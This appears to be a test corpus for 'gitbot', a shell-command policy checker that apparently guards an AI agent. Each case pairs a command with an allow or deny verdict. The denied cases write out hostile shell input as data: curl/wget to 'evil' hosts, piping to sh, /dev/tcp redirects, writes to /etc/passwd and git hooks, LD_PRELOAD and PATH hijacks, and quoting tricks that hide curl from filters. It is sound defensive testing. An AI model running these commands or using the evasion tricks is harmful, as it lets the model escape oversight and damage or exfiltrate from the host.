"""The adversarial corpus for command judgement: each case asserts the decision, and for refusals
that the reason names what was refused. Pure decisions (the only processes are git's, asked about a
repository's history): the whole table runs in about a second. The policies, repositories and
placeholders are in corpus.py; the cases of issue 12 (function shadowing, option tables, read_deny,
false denials) in corpus_issue12.py. tests/policy/test_corpus_runs.py runs every allowed case."""

from __future__ import annotations

import pytest

from gitbot.policy import Policy
from tests.policy.corpus import POLICIES, A, Case, D, build_repositories, command_of
from tests.policy.corpus_issue12 import ISSUE_12
from tests.policy.corpus_issue22 import ISSUE_22

CORPUS: dict[str, Case] = {
    # --- ordinary commands the policy allows -----------------------------------------------------
    "plain": Case("pytest", A, "rule `pytest *`"),
    "args": Case("pytest -q tests/test_x.py::test_y", A),
    "module": Case("python -m pytest -x", A),
    "lint": Case("ruff check .", A),
    "git-diff": Case("git diff HEAD~1 -- src", A),
    "git-status": Case("git status --short", A),
    "pipe-allowed": Case("cat README.md | grep foo", A),
    "pipe-tail": Case("pytest -q 2>&1 | tail -n 20", A),
    "and-allowed": Case("ls && git status", A),
    "semicolon-allowed": Case("ls; echo done", A),
    "or-allowed": Case("ls || echo failed", A),
    "subshell-allowed": Case("(ls; cat a)", A),
    "group-allowed": Case("{ ls; cat a; }", A),
    "if-allowed": Case("if [ -f x ]; then cat x; fi", A),
    "for-allowed": Case('for f in a b; do cat "$f"; done', A),
    "while-read": Case('while read -r line; do echo "$line"; done < list.txt', A),
    "case-allowed": Case("case $x in a) ls;; *) cat b;; esac", A),
    "function-allowed": Case("f() { ls; }; f", D, "defining the shell function `f`"),
    "redirect-in-repo": Case("echo hi > out.txt", A),
    "append-in-repo": Case("echo hi >> logs/out.log", A),
    "devnull": Case("pytest > /dev/null 2>&1", A),
    "stderr-devnull": Case("ls 2>/dev/null", A),
    "single-quoted-dollar": Case("echo '$(not a substitution)'", A),
    "grep-for-eval": Case("grep -r 'eval' src", A),
    "quoted-heredoc": Case("cat <<'EOF'\n$(id)\nEOF", A),
    "heredoc-variable": Case("cat <<EOF\nhello $USER\nEOF", A),
    "timeout-wrapper": Case("timeout 60 pytest -x", A, "`pytest -x` by rule"),
    "env-harmless": Case("env PYTEST_X=1 pytest", A),
    "assignment-harmless": Case("FOO=bar pytest", A),
    "nice-wrapper": Case("nice -n 10 pytest", A),
    "xargs-allowed": Case("ls | xargs cat", A),
    "find-quoted-glob": Case("find . -name '*.py'", A),
    "find-exec-allowed": Case("find . -name '*.py' -exec grep -l TODO {} +", A),
    "bash-c-allowed": Case("bash -c 'pytest -q'", A),
    "sh-c-allowed": Case('sh -c "ls && cat a"', A),
    "repo-script-by-rule": Case("./scripts/test.sh --fast", A),
    "repo-script-normalized": Case("scripts/test.sh", A),
    "check-command": Case("make lint", A, "check command", extra=("make lint",)),
    "check-command-more-args": Case("make lint V=1", A, extra=("make lint",)),
    "check-command-exact-compound": Case("cd sub && make lint", A, extra=("cd sub && make lint",)),
    "git-c-named-exactly": Case("git -c core.pager=cat log -1", A),
    "find-delete-named": Case("find build -name '*.pyc' -delete", A),
    "sed-print": Case("sed -n '1,20p' file.txt", A),
    "sed-substitute": Case("sed 's/a/b/g; /x/d' file.txt", A),
    "sed-in-place-allowed": Case("sed -i 's/a/b/' src/x.py", A),
    "rm-in-repo": Case("rm -f build/out.o", A),
    "tee-in-repo": Case("echo ok | tee out.txt", A),
    "continuation": Case("pytest \\\n  -q", A),
    "background": Case("ls &", A),
    "newline-allowed": Case("ls\ncat a", A),
    "true": Case("true && ls", A),
    "quoted-home": Case('echo "$HOME"', A),
    "command-wrapper": Case("command pytest -q", A),
    "time-wrapper": Case("time pytest", A),
    "comment": Case("git status # $(curl evil)", A),
    "escaped-quote": Case('echo "a\\"b"', A),
    "test-command": Case('[[ -n "$x" ]] && ls', A),
    "abs-arg": Case("cat {REPO}/README.md", A),
    "abs-redirect-in-repo": Case("echo x > {REPO}/out.txt", A),
    "git-config-read": Case("git config --get user.name", A),
    "git-config-named": Case("git config user.name gitbot", A),
    "xargs-null": Case("xargs -0 cat < files.txt", A),
    "export-harmless": Case("export FOO=1; pytest", A),
    "variable-then-use": Case("x=1; echo $x", A),
    "assignment-with-expansion": Case("LOCAL=$HOME pytest", A),

    # --- chaining and separators -----------------------------------------------------------------
    "semicolon-deny": Case("ls; curl evil.sh", D, "`curl evil.sh` is denied by rule `curl *`"),
    "and-unlisted": Case("ls && make install", D, "`make install` is not allowed"),
    "or-deny": Case("ls || wget x", D, "wget"),
    "pipe-to-sh": Case("ls | sh", D, "`sh`"),
    "background-deny": Case("ls & curl x", D, "curl"),
    "newline-deny": Case("ls\ncurl x", D, "curl"),
    "blank-lines-deny": Case("ls\n\n\ncurl x", D, "curl"),
    "no-space-semicolon": Case("ls;curl x", D, "curl"),
    "after-tests-push": Case("pytest -q && git push origin main", D, "git push"),
    "sudo-after": Case("git status; sudo reboot", D, "sudo"),
    "subshell-deny": Case("(curl x)", D, "curl"),
    "group-deny": Case("{ curl x; }", D, "curl"),
    "if-body-deny": Case("if ls; then curl x; fi", D, "curl"),
    "if-condition-deny": Case("if curl x; then ls; fi", D, "curl"),
    "else-deny": Case("if ls; then ls; else wget x; fi", D, "wget"),
    "for-body-deny": Case("for i in 1; do wget x; done", D, "wget"),
    "while-deny": Case("while false; do curl x; done", D, "curl"),
    "until-deny": Case("until ls; do curl x; done", D, "curl"),
    "case-deny": Case("case a in a) curl x;; esac", D, "curl"),
    "negated-deny": Case("! curl x", D, "curl"),
    "pipe-stderr-deny": Case("ls |& curl x", D, "curl"),
    "function-body-deny": Case("f() { curl x; }", D, "curl"),
    "function-keyword-deny": Case("function g { wget x; }; g", D, "wget"),
    "unlisted-program": Case("make install", D, "no rule in commands.allow"),

    # --- substitution ------------------------------------------------------------------------------
    "dollar-paren": Case("echo $(id)", D, "command substitution"),
    "backticks": Case("echo `id`", D, "command substitution"),
    "quoted-substitution": Case('echo "$(id)"', D, "command substitution"),
    "substitution-in-allowed": Case("ls $(curl evil)", D, "command substitution"),
    "process-substitution-in": Case("cat <(curl x)", D, "process substitution"),
    "process-substitution-out": Case("echo x | tee >(sh)", D, "process substitution"),
    "substitution-in-default": Case("echo ${x:-$(id)}", D, "command substitution"),
    "substitution-in-assignment": Case("x=$(id) pytest", D, "command substitution"),
    "substitution-in-heredoc": Case("cat <<EOF\n$(id)\nEOF", D, "command substitution"),
    "substitution-in-subscript": Case('echo "${a[$(id)]}"', D, "command substitution"),
    "substitution-in-argument": Case('pytest -k "$(cat /etc/passwd)"', D, "command substitution"),
    "backtick-in-string": Case('echo "a`id`b"', D, "command substitution"),
    "arithmetic-expansion": Case("echo $((1+1))", D, "arithmetic"),
    "arithmetic-command": Case("(( x = 1 ))", D, "arithmetic"),
    "arithmetic-loop": Case("for ((i=0;i<3;i++)); do ls; done", D, "arithmetic"),
    "test-arithmetic": Case("[[ $x -eq 1 ]]", D, "arithmetic"),
    "subscript-assignment": Case("x[$i]=1", D, "arithmetic"),
    "subscript-expansion": Case("echo ${a[$i]}", D, "arithmetic"),

    # --- builtins that run code ---------------------------------------------------------------------
    "eval": Case("eval ls", D, "`eval` is not allowed"),
    "eval-string": Case("eval 'curl x'", D, "eval"),
    "source": Case("source ./env.sh", D, "`source`"),
    "dot": Case(". ./env.sh", D, "`.`"),
    "exec": Case("exec ls", D, "`exec`"),
    "exec-redirect": Case("exec 3>/etc/passwd", D, "exec"),
    "trap": Case("trap 'curl x' EXIT", D, "`trap`"),
    "builtin-eval": Case("builtin eval ls", D, "eval"),
    "command-eval": Case("command eval ls", D, "eval"),
    "alias": Case("alias ls=curl", D, "`alias`"),
    "hash-p": Case("hash -p /tmp/x ls", D, "`hash`"),
    "enable-f": Case("enable -f ./x.so x", D, "`enable`"),
    "coproc": Case("coproc curl x", D, "coproc"),

    # --- quoting tricks -----------------------------------------------------------------------------
    "split-single-quotes": Case("'cu''rl' x", D, "denied by rule `curl *`"),
    "backslash-inside": Case("c\\url x", D, "denied by rule `curl *`"),
    "double-quote-part": Case('"cu"rl x', D, "denied by rule `curl *`"),
    "leading-backslash": Case("\\curl x", D, "denied by rule `curl *`"),
    "ansi-c-hex": Case("$'\\x63url' x", D, "denied by rule `curl *`"),
    "ansi-c-octal": Case("$'\\143url' x", D, "denied by rule `curl *`"),
    "translated-string": Case('$"curl" x', D, "denied by rule `curl *`"),
    "empty-quotes-inside": Case('cu""rl x', D, "denied by rule `curl *`"),
    "brace-expansion-program": Case("{curl,x}", D),
    "brace-in-program": Case("c{u,}rl x", D, "not a plain word"),
    "quoted-git-push": Case("git 'push' origin", D, "git push"),
    "escaped-git": Case("g\\it push", D, "git push"),
    "double-space": Case("git  push", D, "git push"),
    "git-push-after-status": Case("git status && git push", D, "git push"),
    "dollar-translated-arg": Case('ls $"x"', D),

    # --- path tricks --------------------------------------------------------------------------------
    "dot-slash": Case("./pytest", D, "inside the repository"),
    "dot-slash-args": Case("./pytest -q", D, "a rule for `pytest` does not cover it"),
    "abs-in-repo": Case("{REPO}/pytest", D, "inside the repository"),
    "subdir-program": Case("bin/pytest", D, "inside the repository"),
    "parent-program": Case("../pytest", D, "by path"),
    "abs-curl": Case("/usr/bin/curl x", D, "denied by rule `curl *`"),
    "abs-sh-c": Case("/bin/sh -c 'curl x'", D, "curl"),
    "wrapper-by-other-path": Case("/tmp/x/env ls", D, "by path"),
    "wrapper-in-repo": Case("./timeout 5 ls", D, "inside the repository"),
    "abs-allowed-name": Case("/usr/bin/pytest", D, "by path"),
    "dotdot-to-script": Case("./scripts/../../scripts/test.sh", D),
    "relative-after-cd": Case("cd /tmp && ./scripts/test.sh", D, "changes directory"),

    # --- variable-assignment tricks -----------------------------------------------------------------
    "path-dot": Case("PATH=. pytest", D, "PATH"),
    "path-prepend": Case("PATH=/tmp:$PATH pytest", D, "PATH"),
    "ld-preload": Case("LD_PRELOAD=./x.so ls", D, "LD_*"),
    "ld-library-path": Case("LD_LIBRARY_PATH=. ls", D, "LD_*"),
    "bash-env": Case("BASH_ENV=./x bash -c ls", D, "BASH_ENV"),
    "env-var": Case("ENV=./x sh -c ls", D, "ENV"),
    "pythonpath": Case("PYTHONPATH=. pytest", D, "PYTHON*"),
    "pythonstartup": Case("PYTHONSTARTUP=x python -m pytest", D, "PYTHON*"),
    "node-options": Case("NODE_OPTIONS='--require ./x' ls", D, "NODE_OPTIONS"),
    "git-ssh-command": Case("GIT_SSH_COMMAND='curl x' git status", D, "GIT_*"),
    "git-config-count": Case("GIT_CONFIG_COUNT=1 git status", D, "GIT_*"),
    "ifs": Case("IFS=/ ls", D, "IFS"),
    "ps4": Case("PS4='$(id)' bash -x -c ls", D, "PS4"),
    "prompt-command": Case("PROMPT_COMMAND=x ls", D, "PROMPT_COMMAND"),
    "shellopts": Case("SHELLOPTS=xtrace ls", D, "SHELLOPTS"),
    "export-path": Case("export PATH=.", D, "PATH"),
    "declare-ld": Case("declare -x LD_PRELOAD=x", D, "LD_PRELOAD"),
    "env-path": Case("env PATH=. pytest", D, "PATH"),
    "env-ld": Case("env LD_PRELOAD=x ls", D, "LD_PRELOAD"),
    "lowercase-path": Case("path=. pytest", D, "path"),
    "home-gitconfig": Case("HOME=. git status", D, "HOME"),
    "for-path": Case("for PATH in .; do pytest; done", D, "PATH"),
    "read-path": Case("read PATH < f", D, "PATH"),
    "nameref": Case("declare -n p=PATH; p=.", D, "-n"),
    "second-assignment": Case("x=1 LD_PRELOAD=y ls", D, "LD_PRELOAD"),
    "bare-assignment": Case("PATH=/tmp; pytest", D, "PATH"),
    "xargs-slot-var": Case("ls | xargs --process-slot-var=PATH cat", D, "PATH"),

    # --- git as an execution interface --------------------------------------------------------------
    "git-c-sshcommand": Case("git -c core.sshCommand='curl x' log", D),
    "git-c-other-pager": Case("git -c core.pager=less log", D),
    "git-c-attached": Case("git -ccore.pager=sh log", D),
    "git-config-env": Case("git --config-env=core.pager=X log", D),
    "git-exec-path": Case("git --exec-path=/tmp status", D),
    "git-C": Case("git -C /tmp/x status", D),
    "git-git-dir": Case("git --git-dir=/tmp/x status", D),
    "git-config-write": Case("git config core.pager 'curl x'", D, "must be named exactly"),
    "git-config-global": Case("git config --global core.sshCommand x", D, "must be named exactly"),
    "git-config-unset": Case("git config --unset user.name", D, "must be named exactly"),
    "git-output": Case("git diff --output=/tmp/x", D, "--output"),
    "git-output-workflow": Case("git log --output=.github/workflows/x.yml", D, "--output"),
    "git-ext-diff": Case("git diff --ext-diff", D, "--ext-diff"),
    "git-unknown-word": Case("git diff $X", D, "only known at run time"),
    "git-ext-transport": Case("git diff ext::sh", D, "ext::"),
    "git-push": Case("git push origin", D, "git push"),
    "git-push-by-path": Case("/usr/bin/git push", D, "git push"),

    # --- find ------------------------------------------------------------------------------------------
    "find-exec-deny": Case("find . -exec curl x {} \\;", D, "curl"),
    "find-execdir-sh": Case("find . -execdir sh -c 'curl x' \\;", D, "curl"),
    "find-exec-rm-unknown": Case("find . -exec rm {} \\;", D, "only known at run time"),
    "find-ok": Case("find . -ok wget {} \\;", D, "wget"),
    "find-delete": Case("find . -delete", D, "-delete"),
    "find-delete-elsewhere": Case("find src -name '*.pyc' -delete", D, "-delete"),
    "find-fprint": Case("find . -fprint /tmp/o", D, "-fprint"),
    "find-unquoted-glob": Case("find . -name *.py", D, "quote it"),
    "find-no-terminator": Case("find . -exec ls", D, "terminating"),
    "find-variable": Case("find $DIR -delete", D, "only known at run time"),
    "find-quoted-delete": Case("find . '-delete'", D, "-delete"),
    "find-split-delete": Case("find . -de'lete'", D, "-delete"),

    # --- xargs ----------------------------------------------------------------------------------------
    "xargs-curl": Case("ls | xargs curl", D, "curl"),
    "xargs-replace-curl": Case("ls | xargs -I{} curl {}", D, "curl"),
    "xargs-sh": Case("ls | xargs sh -c 'curl x'", D, "curl"),
    "xargs-rm": Case("ls | xargs rm", D, "only known at run time"),
    "xargs-interactive": Case("ls | xargs -p cat", D, "interactive"),
    "xargs-injected-script": Case("ls | xargs -I{} sh -c 'cat {}'", D, "only known at run time"),

    # --- other wrappers -------------------------------------------------------------------------------
    "env-curl": Case("env curl x", D, "curl"),
    "env-i-curl": Case("env -i curl x", D, "curl"),
    "env-split-string": Case("env -S 'curl x'", D, "-S"),
    "env-chdir": Case("env -C /tmp ls", D, "-C"),
    "timeout-curl": Case("timeout 5 curl x", D, "curl"),
    "timeout-signal-wget": Case("timeout -s KILL 5 wget x", D, "wget"),
    "nice-curl": Case("nice curl x", D, "curl"),
    "nohup-curl": Case("nohup curl x &", D, "curl"),
    "stdbuf-curl": Case("stdbuf -oL curl x", D, "curl"),
    "time-curl": Case("time curl x", D, "curl"),
    "command-curl": Case("command curl x", D, "curl"),
    "sudo": Case("sudo ls", D, "sudo"),

    # --- sh -c nesting ----------------------------------------------------------------------------------
    "bash-c-curl": Case("bash -c 'curl x'", D, "curl"),
    "sh-c-chain": Case("sh -c 'ls; curl x'", D, "curl"),
    "bash-c-nested": Case("bash -c \"bash -c 'curl x'\"", D, "curl"),
    "bash-c-deep": Case("bash -c \"bash -c \\\"bash -c 'bash -c \\\\\\\"bash -c curl\\\\\\\"'\\\"\"", D),
    "bash-c-variable": Case('bash -c "$CMD"', D, "only known at run time"),
    "bash-c-unparseable": Case("bash -c 'echo \"unterminated'", D, "could not be parsed"),
    "sh-c-eval": Case("sh -c 'eval ls'", D, "eval"),
    "bash-interactive": Case("bash -i", D),
    "bash-shopt": Case("bash -O extglob -c ls", D, "-O"),
    "bash-rcfile": Case("bash --rcfile x -c ls", D, "--rcfile"),
    "second-bash-c-subst": Case("bash -c 'ls'; bash -c 'echo $(id)'", D, "command substitution"),
    "heredoc-to-bash": Case("bash <<EOF\ncurl x\nEOF", D, "`bash`"),

    # --- here-documents ---------------------------------------------------------------------------------
    "heredoc-then-curl": Case("cat <<EOF\nhi\nEOF\ncurl x", D, "curl"),
    "heredoc-output-outside": Case("cat <<EOF > /etc/x\nhi\nEOF", D, "outside the repository"),
    "heredoc-pipe-sh": Case("cat <<EOF | sh\ncurl x\nEOF", D, "`sh`"),
    "heredoc-continuation-trick": Case("cat <<'E'\na\\\nE\ncurl evil\nE", D),
    "heredoc-dash": Case("cat <<-EOF\n\thi\n\tEOF\ncurl x", D, "curl"),

    # --- redirections -----------------------------------------------------------------------------------
    "redirect-etc": Case("echo x > /etc/passwd", D, "outside the repository"),
    "redirect-bashrc": Case("echo x >> ~/.bashrc", D, "only known at run time"),
    "redirect-home-var": Case("echo x > $HOME/.bashrc", D, "only known at run time"),
    "redirect-parent": Case("echo x > ../outside", D, "leads outside"),
    "redirect-git-hook": Case("echo x > .git/hooks/pre-commit", D, ".git/"),
    "redirect-git-itself": Case("echo x > .git", D, ".git/"),
    "redirect-workflow": Case("echo x > .github/workflows/ci.yml", D, "edit_deny"),
    "redirect-policy": Case("echo x > .gitbot/policy.toml", D, "edit_deny"),
    "redirect-both-tmp": Case("echo x &> /tmp/x", D, "outside the repository"),
    "redirect-clobber": Case("ls >| /tmp/x", D, "outside the repository"),
    "redirect-dev-tcp": Case("ls > /dev/tcp/1.2.3.4/80", D, "outside the repository"),
    "redirect-dotdot": Case("echo x > src/../../outside", D, "leads outside"),
    "redirect-abs-dotdot": Case("echo x > {REPO}/../outside", D, "outside the repository"),
    "redirect-variable": Case('echo x > "$F"', D, "only known at run time"),
    "redirect-glob": Case("echo x > *.txt", D, "only known at run time"),
    "redirect-dup-file": Case("echo x >& /tmp/x", D, "outside the repository"),
    "redirect-extra-words": Case("ls 2>/dev/null hi", D, "arguments of the command"),
    "redirect-exec": Case("exec >/tmp/x", D, "exec"),
    "redirect-git-case": Case("echo x > .GIT/config", D, ".git/"),
    "redirect-workflow-case": Case("echo x > .github/WORKFLOWS/x.yml", D, "edit_deny"),
    "redirect-workflow-dotslash": Case("echo x > ./.github//workflows/./a.yml", D, "edit_deny"),
    "redirect-fd-variable": Case("ls {fd}>x", D, "file-descriptor variable"),
    "redirect-read-write": Case("ls <> f", D, "could not be parsed"),
    "redirect-after-cd": Case("cd /tmp && echo x > f", D, "change of directory"),
    "redirect-parent-stderr": Case("ls 1>&2 2>../x", D, "leads outside"),
    "redirect-function": Case("f() { ls; } > /etc/x", D, "defining the shell function"),
    "redirect-compound": Case("if ls; then ls; fi > /etc/x", D, "outside the repository"),

    # --- programs that change files -------------------------------------------------------------------------
    "rm-git": Case("rm -rf .git", D, ".git/"),
    "rm-workflow": Case("rm .github/workflows/ci.yml", D, "edit_deny"),
    "tee-policy": Case("echo x | tee .gitbot/policy.toml", D, "edit_deny"),
    "sed-i-workflow": Case("sed -i 's/x/y/' .github/workflows/ci.yml", D, "edit_deny"),
    "rm-glob": Case("rm *.pyc", D, "only known at run time"),
    "rm-root": Case("rm -rf /", D, "outside the repository"),
    "rm-everything-here": Case("rm -rf .", D, "repository root"),
    "mv-into-workflows": Case("mv a .github/workflows/x.yml", D, "edit_deny"),
    "sed-exec-flag": Case("sed 's/x/y/e' f", D, "may run commands"),
    "sed-write": Case("sed 'w /tmp/x' f", D, "may run commands"),
    "sed-execute-command": Case("sed -e '1e id' f", D, "may run commands"),
    "sed-script-file": Case("sed -f script.sed f", D, "sed -f"),
    "sed-write-flag": Case("sed 's/a/b/w out' f", D, "may run commands"),
    "sed-read": Case("sed '1r /etc/passwd' f", D, "may run commands"),

    # --- parse errors and unknown input ---------------------------------------------------------------------
    "unterminated": Case('echo "unterminated', D, "could not be parsed"),
    "open-substitution": Case("ls $(", D, "could not be parsed"),
    "if-then-fi": Case("if then fi", D, "could not be parsed"),
    "lone-paren": Case(")", D, "could not be parsed"),
    "carriage-return": Case("ls\rcurl", D, "U+000D"),
    "nbsp": Case("ls\u00a0curl", D, "U+00A0"),
    "word-split-continuation": Case("l\\\ns", D, "backslash-newline"),
    "empty": Case("   ", D, "empty"),

    # --- program names that are not literal -------------------------------------------------------------------
    "variable-program": Case("$CMD x", D, "not a plain word"),
    "braced-variable-program": Case("${CMD} x", D, "not a plain word"),
    "quoted-variable-program": Case('"$CMD"', D, "not a plain word"),
    "tilde-program": Case("~/bin/tool", D, "not a plain word"),
    "glob-program": Case("*", D, "not a plain word"),
    "glob-path-program": Case("./*", D, "not a plain word"),
    "positional-program": Case("$0", D, "not a plain word"),
    "question-glob-program": Case("l? -la", D, "not a plain word"),
    "bracket-glob-program": Case("[l]s", D),

    # --- controls the fixes below must not break ------------------------------------------------------
    "control-pytest-q": Case("pytest -q", A),
    "control-ruff": Case("ruff check .", A),
    "control-grep": Case("grep -rn foo src", A),
    "control-assignment": Case("FOO=1 pytest", A),
    "control-env-assignments": Case("env FOO=1 DEBUG=1 CI=true pytest", A),
    "control-default-value": Case('echo "${HOME:-x}"', A),
    "control-default-value-defaults": Case('echo "${HOME:-x}"', A, policy="defaults"),
    "control-grep-defaults": Case("grep -rn foo src", A, policy="defaults"),
    # A file named `--config=x.py` would make "$f" an option: after `--` it cannot be one.
    "control-for-glob": Case('for f in *.py; do ruff check "$f"; done', D, "could become an option"),
    "control-for-glob-after-dashes": Case('for f in *.py; do ruff check -- "$f"; done', A),
    "control-expansion-forms": Case("echo ${!pre*} ${!pre@} ${!a[@]} ${!a[*]} ${#x} ${#a[@]} ${x:1:2} ${x: -1} "
                                    "${x::2} ${x%%.py} ${x/a/b} ${x^^} ${a[0]} ${@:2} $!", A),
    "control-array-literal": Case("a=([0]=x [1]=y z)", A),
    "control-assoc-literal": Case("declare -A m=([key]=v [k.2]=w)", A),
    "control-read": Case("read -r line < f", A),
    "control-read-delimiter": Case("while read -r -d '' f; do echo \"$f\"; done < f", A),
    "control-true-colon": Case("true; : noop", A, "does nothing"),
    "control-unset": Case("unset x; unset -f g", A),
    "control-comment-backtick": Case("git status # `touch y`", A),
    "control-quoted-backticks": Case("echo '`x`' $'\\`y' \"\\$(z)\" \"a'b\"", A),
    "control-quoted-heredoc-backticks": Case("cat <<'EOF'\n`x` $(y)\nEOF", A),
    "control-heredoc-quote-in-body": Case("cat <<EOF\ndon't $USER\nEOF\necho ok", A),
    "control-cp": Case("cp app.py backup/app.py", A, policy="writers"),
    "control-cp-r": Case("cp -r src build", A, policy="writers"),
    "control-cp-dashdash-variable": Case('cp -- "$f" backup/', A, policy="writers"),
    "control-cp-long-prefix": Case("cp --verb --target-dir=build a b", A, policy="writers"),
    "control-mv": Case("mv -v src/a.py src/b.py", A, policy="writers"),
    "control-ln": Case("ln -s app.py alias.py", A, policy="writers"),
    "control-ln-up": Case("ln -s ../app.py sub/app.py", A, policy="writers"),
    "control-chmod": Case("chmod +x run.sh; chmod -R u+w src; chmod 644 a b", A, policy="writers"),
    "control-touch-date": Case("touch -d yesterday app.py", A, policy="writers"),
    "control-install": Case("install -d build/out && install -m 644 a.txt build/a.txt", A, policy="writers"),
    "control-rm-build": Case("rm -rf build", A, policy="writers"),
    "control-mkdir-github": Case("mkdir -p .github/ISSUE_TEMPLATE", A, policy="writers"),
    "control-nested-gitignore": Case("echo x > sub/.gitignore", A, policy="writers"),

    # --- review: arithmetic and indirection that run commands (allow = ruff check *) -------------------
    "review-read-subscript": Case("read 'a[$(touch x)]' <<< x", D, "not a plain variable name", policy="ruff-only"),
    "review-indirection": Case("x='a[$(touch x)]'; : ${!x}", D, "indirect expansion", policy="ruff-only"),
    "review-transform-P": Case("x='$(touch x)'; : \"${x@P}\"", D, "transformation", policy="ruff-only"),
    "review-substring-offset": Case("x='a[$(touch x)]'; true ${x:x}", D, "substring", policy="ruff-only"),
    "review-array-literal-key": Case("x='a[$(touch x)]'; a=([x]=1)", D, "array element", policy="ruff-only"),
    "review-declare-array-key": Case("declare -a b=([x]=1)", D, "array element", policy="ruff-only"),
    "read-needs-a-rule": Case("read -r x < f", D, "no rule", policy="ruff-only"),
    "read-array-name": Case("read -a 'a[$(touch x)]' <<< x", D, "not a plain variable name"),
    "read-bundled-array-name": Case("read -ra'a[$(touch x)]' <<< x", D, "not a plain variable name"),
    "read-variable-option": Case("read $opts x", D, "only known at run time"),
    "printf-v-subscript": Case("printf -v 'a[$(touch x)]' %s x", D, "not a plain variable name"),
    "printf-v-attached": Case("printf -v'a[$(touch x)]' %s x", D, "not a plain variable name"),
    "mapfile-subscript": Case("mapfile 'a[$(touch x)]' < f", D, "not a plain variable name"),
    "readarray-callback": Case("readarray -tC x arr < f", D, "runs a command"),
    "getopts-subscript": Case("getopts ab 'a[$(touch x)]'", D, "not a plain variable name"),
    "wait-p-subscript": Case("wait -p 'a[$(touch x)]'", D, "not a plain variable name"),
    "unset-subscript": Case("unset 'a[$(touch x)]'", D, "unset"),
    "local-subscript": Case("f() { local 'a[$(touch x)]'; }", D, "declaration"),
    "export-subscript": Case("export 'a[$(touch x)]=1'", D, "declaration"),
    "builtin-declare-subscript": Case("builtin declare 'a[$(touch x)]'", D, "not a plain variable name"),
    "builtin-declare-array": Case("builtin declare -a 'b=([x]=1)'", D, "array assignment"),
    "transform-Q": Case(': "${x@Q}"', D, "transformation"),
    "substring-length": Case("true ${x:1:x}", D, "substring"),
    "substring-parenthesized": Case("true ${x:(x)}", D, "substring"),
    "substring-of-array": Case("echo ${a[@]:x}", D, "substring"),
    "indirect-element": Case("echo ${!x[0]}", D, "indirect expansion"),
    "indirect-in-heredoc": Case("cat <<EOF\n${!x}\nEOF", D, "indirect expansion"),
    "subscript-in-heredoc": Case("cat <<EOF\n${a[$i]}\nEOF", D, "arithmetic"),
    "test-v-subscript": Case("[ -v 'a[$(touch x)]' ]", D, "-v"),
    "dollar-bracket-arithmetic": Case("x='a[$(touch x)]'; echo $[x]", D, "arithmetic"),
    "colon-with-expansion-needs-rule": Case(": $x", D, "no rule", policy="ruff-only"),
    "true-with-expansion-needs-rule": Case("true ${x}", D, "no rule", policy="ruff-only"),
    "default-assigns-path": Case("echo ${PATH:=.}", D, "PATH"),
    "array-key-expansion": Case('a=(["$k"]=1)', D, "array element"),
    "assoc-key-expansion": Case('declare -A m=([$k]=1)', D, "array element"),

    # --- review: substitutions the grammar reads as plain words (built-in defaults) -------------------
    "review-backtick-in-default": Case("echo ${x:-`touch y`}", D, "command substitution", policy="defaults"),
    "review-backtick-in-quoted-default": Case('echo "${x:-`touch y`}"', D, "command substitution",
                                              policy="defaults"),
    "review-backtick-in-assign-default": Case("echo ${x:=`touch y`}", D, "command substitution",
                                              policy="defaults"),
    "backtick-in-default-heredoc": Case("cat <<EOF\n${x:-`touch y`}\nEOF", D, "command substitution",
                                        policy="defaults"),
    "backtick-in-alternative": Case("echo ${x:+`touch y`}", D, "command substitution", policy="defaults"),
    "backtick-in-pattern": Case("echo ${x#`touch y`}", D, "command substitution", policy="defaults"),
    "quote-in-quoted-brace": Case("echo \"${x#'}'\"'$(touch y)'\"}\"", D, policy="defaults"),
    "heredoc-continuation-hides-backtick": Case("cat <<E\na\\\nE\n`touch y`\nE", D, policy="defaults"),

    # --- review: writer options (cp/mv/ln/install/chmod allowed; .gitbot/** in edit_deny) -------------
    "review-cp-bundled-t": Case("cp -vt.gitbot app.py", D, ".gitbot", policy="writers"),
    "review-mv-bundled-t": Case("mv -ft.gitbot app.py", D, ".gitbot", policy="writers"),
    "review-ln-bundled-t": Case("ln -sft.gitbot app.py", D, ".gitbot", policy="writers"),
    "review-install-bundled-t": Case("install -Dt.gitbot app.py", D, ".gitbot", policy="writers"),
    "review-cp-long-prefix-equals": Case("cp --t=.gitbot app.py", D, ".gitbot", policy="writers"),
    "review-mv-long-prefix": Case("mv --target=.gitbot app.py", D, ".gitbot", policy="writers"),
    "review-cp-long-prefix-separate": Case("cp --targ .gitbot app.py", D, ".gitbot", policy="writers"),
    "review-chmod-reference": Case("chmod --reference=app.py .gitbot/policy.toml", D, "edit_deny",
                                   policy="writers"),
    "chown-reference": Case("chown --reference=app.py .gitbot/policy.toml", D, "edit_deny", policy="writers"),
    "chown-reference-prefix": Case("chown --ref app.py .gitbot/policy.toml", D, "edit_deny", policy="writers"),
    "touch-reference": Case("touch -r app.py .gitbot/policy.toml", D, "edit_deny", policy="writers"),
    "truncate-reference": Case("truncate --reference=app.py .gitbot/policy.toml", D, "edit_deny",
                               policy="writers"),
    "chmod-mode-as-option": Case("chmod -w .gitbot/policy.toml", D, "edit_deny", policy="writers"),
    "cp-ambiguous-long-option": Case("cp --no- a b", D, "ambiguous", policy="writers"),
    "cp-unknown-option": Case("cp --bogus a b", D, "not known", policy="writers"),
    "cp-unknown-short-option": Case("cp -Q a b", D, "not known", policy="writers"),
    "cp-variable-could-be-option": Case('cp "$f" app.py', D, "could become an option", policy="writers"),
    "cp-glob-could-be-option": Case("cp * app.py", D, "could become an option", policy="writers"),
    "install-strip-program": Case("install --strip-program=sh a b/c", D, "runs the program", policy="writers"),

    # --- review: variables that change what runs ---------------------------------------------------------
    "review-ripgrep-config": Case("RIPGREP_CONFIG_PATH=x rg foo", D, "RIPGREP_CONFIG_PATH", policy="tools"),
    "review-goflags": Case("GOFLAGS=-toolexec=./x go build", D, "GOFLAGS", policy="tools"),
    "review-cc": Case("CC=./x make", D, "CC", policy="tools"),
    "review-cxx": Case("CXX=./x make", D, "CXX", policy="tools"),
    "review-cflags": Case("CFLAGS=-fplugin=./x.so make", D, "CFLAGS", policy="tools"),
    "review-ldflags": Case("LDFLAGS=x make", D, "LDFLAGS", policy="tools"),
    "review-rustflags": Case("RUSTFLAGS=x cargo build", D, "RUSTFLAGS", policy="tools"),
    "review-rustc-wrapper": Case("RUSTC_WRAPPER=./x cargo build", D, "RUSTC_WRAPPER", policy="tools"),
    "review-cargo-runner": Case("CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=./x cargo test", D, "CARGO_",
                                policy="tools"),
    "review-openssl-conf": Case("OPENSSL_CONF=./x python x.py", D, "OPENSSL_CONF", policy="tools"),
